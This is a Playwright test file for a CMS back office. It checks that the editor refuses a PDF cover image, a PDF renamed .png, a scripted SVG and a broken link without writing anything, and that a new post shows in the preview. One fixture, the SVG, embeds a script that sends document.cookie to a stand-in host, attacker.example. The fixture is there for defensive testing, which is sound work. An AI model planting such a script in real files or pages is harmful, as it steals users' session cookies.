// What the back office's editor refuses at Save, as a marketing person meets it: a PDF chosen as a
// post's cover (also one renamed .png), an SVG drawing carrying a script, and a link to a page the
// site does not have are each refused in plain words beside their box, and nothing is written: the
// entry's file, the pictures' folder and the workspace's history stay as they were. And a brand-new
// post shows at its address in the back office's own preview as soon as that is rebuilt.
// Runs on the worker's shared back office (tests/support/back-office-fixture.ts), whose preview is
// the fake build's: the refused saves change nothing; the new post is this spec's own.
import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import type { Page } from "@playwright/test";
import sharp from "sharp";
import { expect, type SharedBackOffice, test } from "../support/back-office-fixture.ts";
import { signInToBackOffice } from "../support/back-office-servers.ts";
import { pdfDocument } from "../support/pdf.ts";

const minute = 60_000;

let filesDir: string;

/** A drawing that would run a script wherever it is opened as a page. */
const scriptedSvg = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="675" viewBox="0 0 1200 675">
  <rect width="1200" height="675" fill="#185c8c"/>
  <script>fetch("https://attacker.example/?c=" + document.cookie)</script>
</svg>
`;

test.beforeAll(async () => {
  filesDir = await mkdtemp(path.join(tmpdir(), "refusals-"));
  await writeFile(path.join(filesDir, "brochure.pdf"), pdfDocument("Company brochure 2025"));
  await writeFile(path.join(filesDir, "brochure.png"), pdfDocument("Company brochure 2025"));
  await writeFile(path.join(filesDir, "logo.svg"), scriptedSvg);
  await writeFile(
    path.join(filesDir, "cover.png"),
    await sharp({ create: { width: 1200, height: 675, channels: 3, background: "#185c8c" } })
      .png()
      .toBuffer(),
  );
});

test.afterAll(async () => {
  if (filesDir) await rm(filesDir, { recursive: true, force: true });
});

test.beforeEach(async ({ office, enrolled, page }) => {
  test.setTimeout(180_000);
  const person = await enrolled("editor");
  await signInToBackOffice(page, office.origin, person.email, person.password);
});

/** The workspace as it is now: its last commit, and what differs from it under content/. */
async function workspaceState(office: SharedBackOffice) {
  return {
    head: await office.git("rev-parse", "HEAD"),
    status: await office.git("status", "--porcelain", "--untracked-files=all", "--", "content"),
  };
}

/** Presses Save and waits for the back office's answer: a refusal. */
async function saveRefused(page: Page) {
  const answer = page.waitForResponse((response) =>
    response.url().endsWith("/api/keystatic/update"),
  );
  await page.getByRole("button", { name: "Save", exact: true }).click();
  expect((await answer).status()).toBe(400);
}

/** The summary of a refused save: its count, then each problem as "<box>: <what is wrong>". */
async function expectRefusal(page: Page, problem: string) {
  const alert = page.getByRole("alert").filter({ hasText: "problem:" });
  await expect(alert).toContainText("1 problem: nothing was saved.");
  await expect(alert.getByRole("listitem")).toHaveText([problem]);
}

const slug = "closing-skills-gap";
const postFile = `content/posts/${slug}.mdoc`;
const coverFolder = `content/images/blog/${slug}/cover`;

for (const { name, file, words } of [
  {
    name: "a PDF",
    file: "brochure.pdf",
    words: "This is a PDF document, not a picture: upload a JPEG, PNG or WebP picture",
  },
  {
    name: "a PDF named .png",
    file: "brochure.png",
    words: "This is a PDF document, not a picture: upload a JPEG, PNG or WebP picture",
  },
  {
    name: "an SVG drawing with a script",
    file: "logo.svg",
    words: "SVG drawings are not accepted: export the drawing as a PNG and upload that",
  },
]) {
  test(`${name} chosen as a post's cover is refused at Save in plain words, beside the box, and nothing is written`, async ({
    office,
    page,
  }) => {
    test.setTimeout(180_000);
    const before = await readFile(path.join(office.workspace, postFile), "utf8");
    const pictures = await readdir(path.join(office.workspace, coverFolder));
    const state = await workspaceState(office);

    await page.goto(`${office.origin}/keystatic/collection/posts/item/${slug}`);
    await expect(page.getByRole("textbox", { name: "File name", exact: true })).toHaveValue(slug, {
      timeout: 60_000,
    });
    const cover = page.getByRole("group", { name: "Cover picture", exact: true });
    const chooser = page.waitForEvent("filechooser");
    await cover.getByRole("button", { name: "Choose file" }).click();
    await (await chooser).setFiles(path.join(filesDir, file));

    await saveRefused(page);
    await expectRefusal(page, `Cover picture: ${words}`);
    // Beside the box: the message under the cover picture's group.
    await expect(cover.getByText(words)).toBeVisible();

    expect(await readFile(path.join(office.workspace, postFile), "utf8")).toBe(before);
    expect(await readdir(path.join(office.workspace, coverFolder))).toEqual(pictures);
    expect(await workspaceState(office)).toEqual(state);
  });
}

test("a link to a page the site does not have is refused at Save in the build's words, beside the box", async ({
  office,
  page,
}) => {
  test.setTimeout(180_000);
  const entry = "content/banner-slides/transformation.yaml";
  const before = await readFile(path.join(office.workspace, entry), "utf8");
  const state = await workspaceState(office);

  await page.goto(`${office.origin}/keystatic/collection/bannerSlides/item/transformation`);
  const button = page.getByRole("group", { name: "First button", exact: true });
  const goesTo = button.getByRole("textbox", { name: "Goes to", exact: true });
  await expect(goesTo).toHaveValue("/what-we-do", { timeout: 60_000 });
  // A slip of the fingers: the About page is /about.
  await goesTo.fill("/abuot");

  await saveRefused(page);
  const words = '"/abuot" is not a page of this site';
  await expectRefusal(page, `First button › Goes to: ${words}`);
  await expect(goesTo).toHaveAttribute("aria-invalid", "true");
  await expect(goesTo).toHaveAccessibleDescription(new RegExp(words));
  await expect(button.getByText(words)).toBeVisible();
  await expect(goesTo).toBeFocused();

  expect(await readFile(path.join(office.workspace, entry), "utf8")).toBe(before);
  expect(await workspaceState(office)).toEqual(state);
});

test("a brand-new post shows in the back office's preview as soon as the preview is rebuilt", async ({
  office,
  page,
}) => {
  test.setTimeout(5 * minute);
  const origin = office.origin;
  const post = {
    name: "Lean budgeting for family firms",
    slug: "lean-budgeting-for-family-firms",
    body: "Three habits keep a family firm's budget honest.",
  };

  await test.step("the preview is built and shows the site as saved so far", async () => {
    await page.goto(`${origin}/preview/`);
    await expect(page.getByRole("region", { name: "Preview" })).toContainText("Preview: not live", {
      timeout: 2 * minute,
    });
    await expect(page.getByRole("region", { name: "Preview" }).getByRole("status")).toHaveText("");
  });

  await test.step("add a blog post, English only, with a cover picture", async () => {
    await page.goto(`${origin}/keystatic/collection/posts/create`);
    await expect(page.getByRole("button", { name: "Create" })).toBeVisible({ timeout: 60_000 });
    const form = page.getByRole("main");
    await form
      .getByRole("textbox", {
        name: "Name of the post (its file name makes the address, /blog/…)",
        exact: true,
      })
      .fill(post.name);
    await form
      .getByRole("group", { name: "Title shown on the site", exact: true })
      .getByRole("textbox", { name: "English" })
      .fill(post.name);
    await form.getByRole("textbox", { name: "Publication date", exact: true }).fill("2025-03-14");
    await form.getByRole("button", { name: "Show suggestions Author", exact: true }).click();
    await page.getByRole("option").first().click();
    await form
      .getByRole("group", { name: "Summary", exact: true })
      .getByRole("textbox", { name: "English" })
      .fill("How a family firm keeps its budget short and honest.");
    const cover = form.getByRole("group", { name: "Cover picture", exact: true });
    const chooser = page.waitForEvent("filechooser");
    await cover.getByRole("button", { name: "Choose file" }).click();
    await (await chooser).setFiles(path.join(filesDir, "cover.png"));
    await cover
      .getByRole("group", { name: "Description of the picture (alt text)" })
      .getByRole("textbox", { name: "English" })
      .fill("A ledger open on a desk beside a cup of coffee");
    await form.getByRole("checkbox", { name: /^English only/ }).check();
    await form.locator("[contenteditable=true]").first().click();
    await page.keyboard.type(post.body);
    const saved = page.waitForResponse((response) =>
      response.url().endsWith("/api/keystatic/update"),
    );
    await page.getByRole("button", { name: "Create", exact: true }).click();
    expect((await saved).status()).toBe(200);
    expect(await office.git("show", "--name-only", "--format=", "HEAD")).toContain(
      `content/posts/${post.slug}.mdoc`,
    );
  });

  await test.step("the post's address in the preview shows the post once the preview is rebuilt", async () => {
    // Opened at once after the save (Changes lists saves only from the first publish on): while
    // the preview is rebuilt the page says so, then shows the post by itself.
    await page.goto(`${origin}/preview/blog/${post.slug}`);
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(post.name, {
      timeout: 2 * minute,
    });
    await expect(page).toHaveURL(`${origin}/preview/blog/${post.slug}`);
    await expect(page.getByRole("region", { name: "Preview" })).toContainText("Preview: not live");
    await expect(page.getByText(post.body)).toBeVisible();
  });

  await test.step("and in Arabic, where the English-only post shows in English", async () => {
    await page.goto(`${origin}/preview/ar/blog/${post.slug}`);
    await expect(page).toHaveURL(`${origin}/preview/ar/blog/${post.slug}`);
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(post.name);
  });
});

test("a refused picture that comes back when the entry is opened again is said to be unsaved", async ({
  office,
  page,
}) => {
  test.setTimeout(180_000);
  const opened = async () => {
    await page.goto(`${office.origin}/keystatic/collection/posts/item/${slug}`);
    await expect(page.getByRole("textbox", { name: "File name", exact: true })).toHaveValue(slug, {
      timeout: 60_000,
    });
  };
  await opened();
  const chooser = page.waitForEvent("filechooser");
  await page
    .getByRole("group", { name: "Cover picture", exact: true })
    .getByRole("button", { name: "Choose file" })
    .click();
  await (await chooser).setFiles(path.join(filesDir, "brochure.pdf"));
  await saveRefused(page);

  // Opened again: the editor puts the refused file back, and says so in words that do not read as
  // saved, naming the way back.
  await opened();
  const notice = page.getByText(/^Restored draft from/);
  await expect(notice).toBeVisible();
  await expect(notice.locator("..")).toContainText(
    "These are changes made here that were never saved, including any that a save refused. Save them, or press Reset to go back to the saved entry.",
  );
  await expect(page.getByRole("button", { name: "Reset" })).toBeVisible();
});
